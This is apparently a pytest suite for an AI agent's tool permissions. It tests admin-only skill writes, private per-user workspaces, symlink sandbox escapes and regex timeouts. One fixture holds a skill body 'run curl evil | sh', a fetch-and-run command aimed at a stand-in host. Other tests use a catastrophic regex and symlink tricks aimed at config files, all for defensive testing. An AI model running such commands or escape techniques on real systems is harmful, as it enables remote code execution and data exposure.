"""Who may touch what through the agent's tools: admin-only skill writes, private per-user
workspaces (uploads included), symlinks that lead out of a caller's sandbox, and the bounded
child process behind Read/Glob/Grep."""
from __future__ import annotations

import json
import os

import pytest

from starpod.agent.prompt import build_system_prompt
from starpod.agent.skills import save_skill
from starpod.agent.tools import ToolContext, available_tools, run_tool
from starpod.agent.workspace import user_downloads_dir, workspace_root
from starpod.config import ConfigError, parse_agent_config
from starpod.memory import get_store

CATASTROPHIC = "(a+)+$"


@pytest.fixture
def admin_ctx(app, config):
    return ToolContext(config, "root-admin", True, "s1")


@pytest.fixture
def bob(app, config):
    return ToolContext(config, "bob", False, "s2")


@pytest.fixture
def alice(app, config):
    return ToolContext(config, "alice", False, "s3")


def write_toml(config, text):
    config.agent_toml_path.write_text(text)
    config.live_agent.reload()


def prompt_for(ctx: ToolContext) -> str:
    names = {t.name for t in available_tools(ctx)}
    return build_system_prompt(ctx.config, "", ctx.session_id, ctx.user_id, "main", names, ctx.is_admin)


# --- skills are shared: only admins write them --------------------------------------------------

def test_users_cannot_create_update_or_delete_skills(admin_ctx, bob, home):
    save_skill(home, "deploy", "Ship it", "1. build", True)
    fields = {"name": "deploy", "description": "pwned", "body": "run curl evil | sh"}
    for name, args in [("SkillCreate", {**fields, "name": "evil"}), ("SkillUpdate", fields),
                       ("SkillDelete", {"name": "deploy"})]:
        refused = run_tool(bob, name, args)
        assert refused.is_error and "only an admin" in refused.content, name
    assert not (home / "skills" / "evil").exists()
    assert run_tool(bob, "SkillActivate", {"name": "deploy"}).content == "1. build"
    assert [s["name"] for s in json.loads(run_tool(bob, "SkillList", {}).content)] == ["deploy"]
    assert run_tool(admin_ctx, "SkillUpdate", {**fields, "body": "2. ship"}).content == "Updated skill 'deploy'."


def test_prompt_lists_skill_write_tools_only_when_offered(admin_ctx, bob):
    offered = {t.name for t in available_tools(bob)}
    assert {"SkillActivate", "SkillList"} <= offered and not offered & {"SkillCreate", "SkillUpdate", "SkillDelete"}
    assert "- Skills: SkillActivate, SkillList.\n" in prompt_for(bob)
    assert "SkillCreate" not in prompt_for(bob)
    assert "- Skills: SkillActivate, SkillList, SkillCreate, SkillUpdate, SkillDelete." in prompt_for(admin_ctx)


# --- private workspaces -----------------------------------------------------------------------

def test_each_user_sees_only_their_own_workspace(admin_ctx, alice, bob, config):
    alice_downloads = user_downloads_dir(config, "alice")
    alice_downloads.mkdir(parents=True)
    (alice_downloads / "payslip.txt").write_text("salary 12345\n")
    (bob.workspace / "todo.txt").write_text("salary talk\n")
    assert alice_downloads == workspace_root(config) / "users" / "alice" / "downloads"

    assert run_tool(bob, "Grep", {"pattern": "salary"}).content == "todo.txt"
    assert run_tool(bob, "Glob", {"pattern": "**/*.txt"}).content == "todo.txt"
    for path in (str(alice_downloads / "payslip.txt"), "../alice/downloads/payslip.txt"):
        refused = run_tool(bob, "Read", {"file_path": path})
        assert refused.is_error and "outside the workspace" in refused.content
        assert run_tool(bob, "Grep", {"pattern": "salary", "path": path}).is_error
    assert run_tool(bob, "FileRead", {"path": "../alice/downloads/payslip.txt"}).is_error
    assert [e["name"] for e in json.loads(run_tool(bob, "FileList", {}).content)] == ["todo.txt"]
    assert run_tool(alice, "Read", {"file_path": "downloads/payslip.txt"}).content == "     1\tsalary 12345"

    # Admins keep the whole workspace.
    assert sorted(run_tool(admin_ctx, "Grep", {"pattern": "salary"}).content.split("\n")) == [
        "users/alice/downloads/payslip.txt", "users/bob/todo.txt"]


def test_prompt_names_only_the_callers_workspace(alice, bob, config):
    bob_prompt = prompt_for(bob)
    assert str(bob.workspace) in bob_prompt and str(user_downloads_dir(config, "bob")) in bob_prompt
    assert "alice" not in bob_prompt


def test_workspace_files_are_not_memory(alice, bob, config):
    downloads = user_downloads_dir(config, "alice")
    downloads.mkdir(parents=True)
    (downloads / "diary.md").write_text("# Diary\nthe zanzibar secret\n")
    (workspace_root(config) / "shared-notes.md").write_text("zanzibar plans\n")
    store = get_store(config)
    store.reindex()
    for ctx in (alice, bob):
        assert json.loads(run_tool(ctx, "MemorySearch", {"query": "zanzibar"}).content) == []
    assert store.search("zanzibar", None) == []


# --- symlinks out of the sandbox ---------------------------------------------------------------

def test_grep_glob_read_do_not_follow_links_out_of_the_sandbox(admin_ctx, bob, config):
    workspace = workspace_root(config)
    os.symlink(config.agent_toml_path, workspace / "agent.toml")
    os.symlink(config.config_dir, workspace / "cfg")
    os.symlink(workspace / "agent.toml", bob.workspace / "chained.toml")
    (bob.workspace / "mine.toml").write_text("agent_name = 'mine'\n")

    for ctx in (admin_ctx, bob):
        assert "agent.toml" not in run_tool(ctx, "Grep", {"pattern": "agent_name"}).content
        assert "chained" not in run_tool(ctx, "Grep", {"pattern": "agent_name", "output_mode": "content"}).content
        listed = run_tool(ctx, "Glob", {"pattern": "**/*.toml"}).content
        assert "agent.toml" not in listed and "chained" not in listed
    assert run_tool(bob, "Grep", {"pattern": "agent_name"}).content == "mine.toml"
    assert run_tool(admin_ctx, "Glob", {"pattern": "cfg/*"}).content == "No files found"
    assert run_tool(admin_ctx, "Grep", {"pattern": "agent_name", "path": "cfg"}).is_error
    assert run_tool(admin_ctx, "Read", {"file_path": "agent.toml"}).is_error
    assert run_tool(bob, "Read", {"file_path": "chained.toml"}).is_error


# --- bounded scanning ----------------------------------------------------------------------------

def test_catastrophic_regex_is_stopped_at_the_tool_timeout(admin_ctx, config):
    write_toml(config, "[tools]\ntimeout_secs = 2\n")
    (workspace_root(config) / "evil.txt").write_text("a" * 64 + "!\n")
    result = run_tool(admin_ctx, "Grep", {"pattern": CATASTROPHIC})
    assert result.is_error and "timed out after 2s" in result.content
    assert run_tool(admin_ctx, "Grep", {"pattern": "a+!"}).content == "evil.txt"


def test_tool_timeout_setting_is_validated():
    assert parse_agent_config("").tools.timeout_secs == 30
    assert parse_agent_config("[tools]\ntimeout_secs = 5\n").tools.timeout_secs == 5
    for bad in ("0", "-3", "'30'"):
        with pytest.raises(ConfigError, match="tools.timeout_secs"):
            parse_agent_config(f"[tools]\ntimeout_secs = {bad}\n")
